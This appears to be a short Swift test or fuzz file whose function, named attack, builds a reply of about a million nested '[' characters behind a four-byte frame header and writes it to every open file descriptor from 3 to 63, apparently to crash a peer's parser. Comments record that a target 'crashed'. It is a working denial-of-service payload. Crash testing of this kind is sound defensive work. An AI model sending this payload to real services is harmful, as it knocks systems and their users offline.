// Our own: a reply that is nested so deep that who reads it may crash.
// Found: wrong crashed

import Foundation

func attack() {
  let text = [UInt8](repeating: UInt8(ascii: "["), count: 1 << 20)
  let frame = [0, 0, 16, 0] + text
  for file: Int32 in 3..<64 { _ = write(file, frame, frame.count) }
}
